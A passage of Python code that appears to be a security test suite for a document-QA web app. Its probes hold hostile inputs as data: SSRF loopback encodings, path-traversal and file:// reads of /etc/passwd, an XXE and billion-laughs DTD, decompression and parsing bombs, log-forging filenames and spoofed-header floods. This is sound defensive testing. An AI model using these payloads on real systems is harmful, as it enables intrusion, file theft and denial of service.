                ("a 40 MB body from an allowed endpoint", "40 MB chat completion", "BIGBODY?"),
                ("a gzip body that expands to 40 MB", "40 kB gzip, Content-Encoding: gzip", "GZIPBOMB?"),
                ("200,000 choices", "200,000 choices", "CHOICES?"),
            )
        ],
        Probe(
            "response size: a 550 kB answer and follow-up query reach the report and the UI",
            "model=<hostile>, answer of 50,000 words",
            "listed",
            long_answer,
            bounded_texts,
            watch="",
        ),
        Probe(
            "secret echoed: the owner's endpoint repeats Authorization (Bearer and Basic) in a 401",
            "question with ECHOAUTH",
            "public",
            lambda lab: call(lab, "public", brag_args(question="ECHOAUTH please")),
            all_of(error_matching("HTTP 401"), log_clean("public")),
            watch="",
        ),
        Probe(
            "secret echoed: an answer holding the server's keys, in every streamed event",
            "question with SAYKEY, REST stream",
            "public",
            secrets_in_stream,
            result_ending("clean"),
            watch="",
        ),
        Probe(
            "CPU: the render event with a 20,000-candidate report",
            "queue/join render with a 0.86 MB report",
            "public",
            render_a_huge_report,
            cpu_below(5.0),
            watch="",
        ),
        *[
            Probe(
                f"owner's resources: model={spec} when BRAG_MODEL is set",
                f"model={spec}",
                "public",
                lambda lab, spec=spec: local_model_refused(lab, spec),
                error_matching("not offered on this server", absent=("worker process",)),
                max_rss_growth=50,
            )
            for spec in ("local:smollm2", "local")
        ],
        Probe(
            "owner's resources: a Hugging Face model the owner does not list, no token",
            "model=someone/expensive-model, token empty",
            "public",
            lambda lab: call(lab, "public", brag_args(model="someone/expensive-model")),
            error_matching("needs your own HF token"),
        ),
        Probe(
            "upload route: a file past BRAG_MAX_FILES_BYTES (what a .zip may hold) to /gradio_api/upload",
            f"POST /gradio_api/upload, one file of {Limits().upload_file_bytes() + 1:,} bytes (the limit is "
            f"{Limits().upload_file_bytes():,})",
            "public",
            oversized_upload,
            nothing_uploaded,
        ),
        Probe(
            "file read: server paths as /brag's uploaded files",
            'files=[{"path": "/etc/passwd"}], a file the server wrote in its own folder, "../../etc/passwd"',
            "public",
            server_paths_as_files,
            lambda lab, r: (
                None
                if all(a.startswith("error") for a in r.split(" | "))
                and "root:" not in r
                and "Bergen" not in r
                else f"a server file was read: {r[:300]}"
            ),
        ),
        Probe(
            "fair queues: one caller floods, another is still answered; a full queue says busy",
            "A: 1 held + 10 more via X-Forwarded-For; B: 2 requests; /calibrate held; 3 queued + 1",
            "fair",
            one_caller_cannot_starve_the_rest,
            fair_outcome,
            watch="",
        ),
        *[
            Probe(
                f"allow-list: {how}",
                f"model=<attacker>{tail}#m",
                "listed",
                lambda lab, tail=tail: call(lab, "listed", brag_args(model=lab.attacker.url + tail + "#m")),
                error_matching("segments or encoded slashes"),
                watch="attacker",
            )
            for how, tail in (
                ("dot segments climb out of the allowed path", "/../../tenantB/v1"),
                ("encoded dot segments", "/%2e%2e/%2E%2E/tenantB/v1"),
                ("an encoded slash", "/..%2f..%2ftenantB/v1"),
            )
        ],
        *[
            Probe(
                f"SSRF: IPv6 {how}",
                f"model=http://[{host}]:<attacker port>/v1#m",
                "public",
                lambda lab, host=host: call(
                    lab, "public", brag_args(model=loopback(lab, f"[{host}]") + "#m")
                ),
                error_matching("is not allowed"),
                watch="attacker",
            )
            for how, host in (
                ("NAT64 of 127.0.0.1", "64:ff9b::7f00:1"),
                ("6to4 of 127.0.0.1", "2002:7f00:1::"),
                ("IPv4-compatible 127.0.0.1", "::127.0.0.1"),
            )
        ],
        Probe(
            "calibration: eta = 5e-324",
            "calibration JSON with eta 5e-324",
            "public",
            lambda lab: call(lab, "public", brag_args(cal=TINY_ETA)),
            error_matching(r"eta = 5e-324 is outside"),
        ),
        Probe(
            "calibration: 1,000 agreement levels (1,000 samples per CB call)",
            "calibration JSON with m = 1000",
            "public",
            lambda lab: call(lab, "public", brag_args(cal=MANY_LEVELS)),
            error_matching("at most 20 are allowed"),
        ),
        Probe(
            "labelled questions nested 50,000 deep",
            "labelled_json = [[[[…]]]]",
            "public",
            lambda lab: call(
                lab, "public", ["[" * 50_000 + "]" * 50_000, "", DOCS, "", "", "auto"], "/calibrate"
            ),
            error_matching("nested too deeply", absent=("RecursionError", "recursion")),
        ),
        Probe(
            "raw error: all-emoji documents",
            "documents=😀😀😀",
            "public",
            lambda lab: call(lab, "public", brag_args(documents="😀😀😀\n\0\0\0")),
            error_matching("nothing to search"),
        ),
        # ---------------------------------------------------------- third round (issue 32)
        Probe(
            "1 docx: a 95 kB .docx whose document.xml inflates to 42 MB of empty elements",
            "upload bomb.docx (7,000,000 <w:x/>, 95 kB packed), /brag over it",
            "public",
            lambda lab: ask_files(lab.public.url, [("bomb.docx", docx_with_body(b"<w:x/>" * 7_000_000))]),
            error_matching(r"bomb\.docx: .*(inflates|BRAG_PARSE_MEMORY_MB|elements)"),
            max_rss_growth=100,
            max_cpu=10,
        ),
        Probe(
            "2 docx: 50,000 empty paragraphs (35 kB)",
            "upload empty.docx (50,000 <w:p/>), /brag over it",
            "public",
            lambda lab: ask_files(lab.public.url, [("empty.docx", docx_with_body(b"<w:p/>" * 50_000))]),
            error_matching(r"empty\.docx: no text found"),
            max_cpu=5,
        ),
        Probe(
            "3 pdf: 20 pages sharing one content stream of 1.2 million cheap operations (10 kB)",
            "upload ops.pdf, /brag over it (an app with a 120 s deadline)",
            "crowd",
            lambda lab: ask_files(lab.crowd.url, [("ops.pdf", shared_stream_pdf())]),
            error_matching(r"ops\.pdf: more than [\d,]+ drawing operations"),
            max_rss_growth=100,
            max_cpu=15,
        ),
        Probe(
            "3 pdf: the reading ends when the caller hangs up",
            "6 slow PDFs (900,000 operations each), then the REST stream closed once reading started",
            "public",
            abandoned_read,
            stopped_reading,
            watch="",
        ),
        Probe(
            "3 pdf: the reading ends at the request's deadline (6 s here)",
            "10 slow PDFs (900,000 operations each)",
            "public",
            read_past_the_deadline,
            deadline_held,
            # Read whole, the files take about 25 s of one worker's CPU; the reading stops at 6 s.
            max_cpu=12,
        ),
        Probe(
            "3 pdf: four callers' hostile PDFs at once, and the health check meanwhile",
            "4 callers' ops.pdf (finding 3's file) at once, GET /gradio_api/info ten times meanwhile",
            "crowd",
            parses_at_once,
            reply_starting("health check: 10 of 10 answered"),
            watch="",
        ),
        Probe(
            "3 pdf: ten pages of 7 MB whitespace streams (70 kB packed)",
            "upload spaces.pdf, /brag over it (an app with a 120 s deadline)",
            "crowd",
            lambda lab: ask_files(
                lab.crowd.url,
                [("spaces.pdf", raw_pdf(10, b" " * 7_000_000 + SHARED_STREAM[-60:], shared=False))],
            ),
            error_matching(r"spaces\.pdf: more than [\d,]+ bytes of page content"),
            max_rss_growth=100,
            max_cpu=15,
        ),
        Probe(
            "4 html: 20,000 nested <blockquote> elements, a word in each (540 kB)",
            "upload nested.html, /brag over it",
            "public",
            lambda lab: ask_files(
                lab.public.url,
                [("nested.html", ("<blockquote>w " * 20_000 + "</blockquote>" * 20_000).encode())],
            ),
            error_matching(r"nested\.html: HTML nested more than 512"),
            max_rss_growth=100,
            max_cpu=5,
        ),
        Probe(
            "5 FileData: a path that is a URL of a server the caller controls",
            'files=[{"path": "http://<attacker>/big.bin"}]',
            "public",
            url_as_file,
            error_matching("never read"),
            watch="attacker",
        ),
        Probe(
            "6 markdown: 4.8 MB of '# h' lines",
            "upload heads.md (1,200,000 headings), /brag over it (an app with a 120 s deadline)",
            "crowd",
            lambda lab: ask_files(lab.crowd.url, [("heads.md", b"# h\n" * 1_200_000)]),
            error_matching(r"heads\.md: no text found"),
            max_rss_growth=100,
            max_cpu=20,
        ),
        Probe(
            "6 markdown: 4.8 MB of '![' repeated",
            "upload images.md (2,400,000 '!['), /brag over it (an app with a 120 s deadline)",
            "crowd",
            lambda lab: ask_files(lab.crowd.url, [("images.md", b"![" * 2_400_000)]),
            reply_starting("answer:", "error:"),
            watch="",
            max_rss_growth=100,
            max_cpu=20,
        ),
        Probe(
            "7 size: a passage file with a 4.8 MB title and one with a 2.9 MB passage",
            "upload title.json and long.json, /brag over them (an app with a 120 s deadline)",
            "crowd",
            owner_request_sizes,
            bounded_requests,
            watch="",
        ),
        Probe(
            "8 markup: headings and passage titles holding <img style>, <form>, <input>",
            "upload notes.md and tower.json, /brag, then the page's render event",
            "public",
            markup_in_titles,
            result_ending("no tag from the documents"),
            watch="",
        ),
        Probe(
            "9 FileData: 100,000 paths in the upload folder that do not exist",
            "files=[100,000 FileData]",
            "public",
            many_nonexistent_files,
            nothing_left_behind,
        ),
        Probe(
            "10 hosting: an upload no question used, fetched back at /gradio_api/file=",
            "upload 1 MB of random bytes, then GET /gradio_api/file=<path>",
            "public",
            upload_served_back,
            error_matching("HTTP 403"),
        ),
        Probe(
            "11 hoarding: one caller uploads 30 files of 4 MB and never asks",
            "A: 30 uploads via X-Forwarded-For, then B: one upload",
            "crowd",
            upload_burst,
            upload_share_held,
        ),
        Probe(
            "12 fairness: BRAG_CONCURRENCY=4, one address sends 12 slow requests, another asks",
            "A: 12 REST calls to a slow endpoint (12 sessions), then B: one question",
            "crowd",
            crowded_workers,
            lambda lab, r: None if "B: answer: Bergen" in r else f"B was not answered: {r}",
            watch="",
        ),
        Probe(
            "13 Milvus: a 566-word question of new words with a calibrated gate",
            "question of 566 words, corpus=brag (3,000 passages), calibration with a gate",
            "milvus",
            long_question_over_milvus,
            reply_starting("answer:"),
            watch="",
            max_cpu=20,
        ),
        Probe(
            "14 small: a passage file nested 100,000 deep",
            "upload deep.json ([[[...]]]), /brag over it",
            "public",
            lambda lab: ask_files(lab.public.url, [("deep.json", b"[" * 100_000 + b"]" * 100_000)]),
            error_matching("nested too deeply", absent=("RecursionError", "Internal error")),
        ),
        Probe(
            "14 small: price_in = 5e-324",
            "cost=usd, price_in=5e-324, price_out=0",
            "public",
            lambda lab: call(lab, "public", [*brag_args(), "usd", 5e-324, 0]),
            error_matching("prices must be 0 or lie between", absent=("ZeroDivisionError", "Internal error")),
        ),
        Probe(
            "14 small: python -m brag index over a FIFO, a link to /dev/zero and a 2 GB file",
            "index pipe.txt zero.txt huge.txt ok.txt",
            "public",
            index_command_on_odd_files,
            odd_files_refused,
        ),
        Probe(
            "held: a .docx with a DTD and an entity (XXE, billion laughs)",
            "upload laughs.docx (<!DOCTYPE> with entities), /brag over it",
            "public",
            lambda lab: ask_files(
                lab.public.url,
                [
                    (
                        "laughs.docx",
                        docx_with_body(
                            b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>",
                            b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol "lol">'
                            + b"".join(
                                b'<!ENTITY lol%d "%s">'
                                % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
                                for i in range(1, 10)
                            )
                            + b'<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                        ),
                    )
                ],
            ),
            error_matching(r"laughs\.docx: .*DTD", absent=("root:",)),
            max_rss_growth=50,
        ),
        Probe(
            "held: FileData with a file:// path",
            'files=[{"path": "file:///etc/passwd"}]',
            "public",
            lambda lab: ask_over_rest(
                lab.public.url,
                [*brag_args(documents=""), "tokens", None, None, file_data(["file:///etc/passwd"])],
            )[0],
            error_matching("never read", absent=("root:",)),
        ),
        # ------------------------------------------------------------- fourth round (issue 41)
        Probe(
            "41.1 nfkc: 5 MB of pasted documents of the one character NFKC makes 18",
            "documents = U+FDFA × 1.67 million (5 MB), /brag (an app with a 120 s deadline)",
            "crowd",
            lambda lab: pasted(lab, "crowd", EXPANDS * 1_666_000),
            error_matching("once normalised"),
            watch="",
            max_rss_growth=200,
        ),
        Probe(
            "41.1 nfkc: a 3 MB .txt upload of that character",
            "upload arabic.txt (U+FDFA × 1 million), /brag over it",
            "crowd",
            expanding_upload,
            error_matching("once normalised"),
            watch="",
            max_rss_growth=200,
        ),
        Probe(
            "41.1 nfkc: 0.2 MB of it, within the limits once normalised",
            "documents = the Demo lines and U+FDFA × 66,000, /brag",
            "crowd",
            lambda lab: pasted(lab, "crowd", DOCS + "\n" + EXPANDS * 66_000),
            reply_starting("answer: Bergen"),
            watch="",
            max_rss_growth=150,
        ),
        Probe(
            "41.2 calibrate: the caller hangs up after a few calls",
            "/calibrate of 30 questions on an endpoint answering in 0.3 s; stream closed after 4 calls",
            "crowd",
            calibrate_abandoned,
            calls_stopped,
            watch="",
        ),
        Probe(
            "41.2 calibrate: 30 questions of 29,949 characters each",
            "/calibrate labelled_json with questions over BRAG_MAX_QUESTION_CHARS",
            "public",
            long_calibration_questions,
            error_matching(r"Question 1: 29,947 characters.*BRAG_MAX_QUESTION_CHARS"),
        ),
        Probe(
            "41.3 session: the page's render event sent a 15 MB answer",
            "a /brag, then queue/join render with its report and an answer of 15 MB",
            "public",
            render_echoes_an_answer,
            error_matching(r"HTTP 413 .*BRAG_MAX_HELPER_BYTES"),
            watch="",
            max_rss_growth=120,  # the first request on an app warms it by about 50 MB; the echo kept 200
        ),
        Probe(
            "41.3 session: many sessions of the largest request (5 MB of documents, a 99 kB calibration)",
            "REST calls, each a new session (40 in the suite; the count is in the response)",
            "crowd",
            sessions_of_big_requests,
            sessions_kept_small,
            watch="",
        ),
        Probe(
            "41.4 proxy: behind '*', one caller writes a new first X-Forwarded-For hop each time",
            "A: 12 requests held a minute, first hops 6.6.i.6, then B asks (4 workers)",
            "crowd",
            rotating_first_hops,
            all_of(at_least_busy(10), b_answered),
            watch="",
        ),
        Probe(
            "41.4 proxy: no trusted proxy, a loopback peer writing X-Forwarded-For",
            "12 requests to a trickling endpoint, each with its own X-Forwarded-For",
            "listed",
            one_address_despite_the_header,
            at_least_busy(4),
            watch="",
        ),
        Probe(
            "41.5 queue: one address floods the queue with events it never reads",
            "A: 50 connections post held REST calls for 10 s; B asks meanwhile (4 workers, queue 64)",
            "crowd",
            queue_flood,
            all_answered,
            watch="",
        ),
        Probe(
            "41.6 uploads: one address uploads 1,000 files of 6 bytes",
            "A: 1,000 uploads, then B: one",
            "crowd",
            tiny_uploads,
            tiny_uploads_bounded,
        ),
        Probe(
            "41.6 uploads: a read upload's folder goes with it",
            "3 uploads, /brag over them",
            "crowd",
            folders_after_a_read,
            all_of(
                reply_starting("answer: Bergen"),
                lambda lab, r: None if r.endswith("0 of 3 upload folders left") else r,
            ),
            watch="",
        ),
        Probe(
            "41.7 json: a calibration named 2**64, one dated in a list 300 deep",
            "calibration JSON with name = 2**64; then with date nested 300 deep",
            "public",
            json_unsafe_calibration,
            both_answered,
            watch="",
        ),
        Probe(
            "41.7 beta: Beta parameters of 5e-324",
            "calibration JSON with actions.R1.rho.a = 5e-324",
            "public",
            lambda lab: call(
                lab,
                "public",
                brag_args(
                    cal=calibration_json(
                        actions={
                            **json.loads(calibration_json())["actions"],
                            "R1": {"q": 0.8, "rho": {"a": 5e-324, "b": 5e-324}},
                        }
                    )
                ),
            ),
            error_matching(r"actions\.R1\.rho\.a = 5e-324 is outside"),
        ),
        *[
            Probe(
                f"41.7 usage: a caller's endpoint reports {what}",
                f"model=<hostile>/v1#m, question with {word}",
                "listed",
                lambda lab, word=word: usage_from_the_endpoint(lab, word),
                plausible_usage,
                watch="",
            )
            for what, word in (("2**70 tokens", "BIGUSAGE"), ("-1,000,000,000 tokens", "NEGUSAGE"))
        ],
        Probe(
            "41.7 usage: a caller's endpoint reports a 5,000-digit number",
            "model=<hostile>/v1#m, question with HUGEUSAGE",
            "listed",
            lambda lab: call(lab, "listed", brag_args("HUGEUSAGE?", model=lab.hostile.url + "#m")),
            error_matching("malformed response", absent=("4300", "Exceeds the limit", "int_max_str_digits")),
            watch="",
        ),
        Probe(
            "41.7 log: U+2028 and U+0085 in an uploaded file's name",
            "upload a\\u2028FORGED… .pdf (not a PDF: refused), then read the app's log",
            "public",
            forged_log_line,
            no_forged_line,
        ),
        Probe(
            "41.7 json: a .json of 450,000 tiny passages",
            'upload tiny.json (["p"] × 450,000), /brag over it',
            "public",
            many_tiny_passages,
            error_matching("passages"),
            max_rss_growth=60,
        ),
        Probe(
            "41.7 monitoring: /monitoring and its summary",
            "GET /gradio_api/monitoring/summary, /monitoring/summary, /gradio_api/monitoring, /monitoring",
            "public",
            monitoring,
            nothing_monitored,
        ),
        Probe(
            "41.7 deep link: a session's inputs, its caller's token among them, saved on request",
            "a page event with hf_token set, then GET /gradio_api/deep_link?session_hash=<it>",
            "public",
            deep_link,
            no_deep_link,
            watch="",
        ),
        Probe(
            "41.8 cancel: /cancel of a run whose model holds its call a minute",
            "queue/join /brag (model holds a minute), then POST /gradio_api/cancel",
            "fair",
            prompt_cancel,
            cancel_returned,
            watch="",
        ),
        *selftest_probes(),
    ]


def suite_probes() -> list[Probe]:
    """The probes tests/test_security.py runs."""
    return [probe for probe in probes() if probe.suite]


def requests_seen(lab: Lab, watch: str) -> int:
    return len(getattr(lab, watch).requests) if watch else 0


def run(lab: Lab, chosen: Callable[[str], bool] = lambda finding: True) -> list[Outcome]:
    """Every (chosen) probe in turn; after each, the server that took it must still answer a question."""
    outcomes = []
    for probe in probes():
        if not chosen(probe.finding):
            continue
        app = getattr(lab, probe.app)
        before_rss, before_seen = rss_mb(app.proc.pid), requests_seen(lab, probe.watch)
        before_cpu = tree_cpu(app.proc.pid)
        lab.mark = len(lab.attacker.headers)
        reset_peak(app.proc.pid)
        started = time.monotonic()
        response = probe.send(lab)
        seconds = time.monotonic() - started
        peak = rss_mb(app.proc.pid, "VmHWM")
        spent = tree_cpu(app.proc.pid) - before_cpu
        failure = probe.check(lab, response)
        if probe.watch and requests_seen(lab, probe.watch) != before_seen:
            failure = failure or f"the {probe.watch} endpoint received a request"
        growth = rss_mb(app.proc.pid) - before_rss
        if failure is None and probe.max_rss_growth is not None and growth > probe.max_rss_growth:
            failure = f"the app's memory grew by {growth:.0f} MB"
        if failure is None and probe.max_cpu is not None and spent > probe.max_cpu:
            failure = f"the app and its workers spent {spent:.1f} s of CPU"
        asked = time.monotonic()
        answered = call(lab, probe.app, brag_args()).startswith("answer: Bergen")
        honest = time.monotonic() - asked
        if failure is None and not answered:
            failure = "the server stopped answering"
        if failure is None and not app.alive():
            failure = "the server died"
        after = rss_mb(app.proc.pid)
        outcomes.append(Outcome(probe, response, seconds, before_rss, after, failure, spent, honest, peak))
    return outcomes


def tree_cpu(pid: int) -> float:
    """CPU seconds of a process, the children it has reaped, and every descendant still running."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0  # it ended meanwhile: its parent counts it once reaped
    ticks = sum(int(f) for f in fields[11:15])  # utime, stime, cutime, cstime
    total = ticks / os.sysconf("SC_CLK_TCK")
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        try:
            total += sum(tree_cpu(int(child)) for child in task.read_text().split())
        except OSError:
            continue
    return total
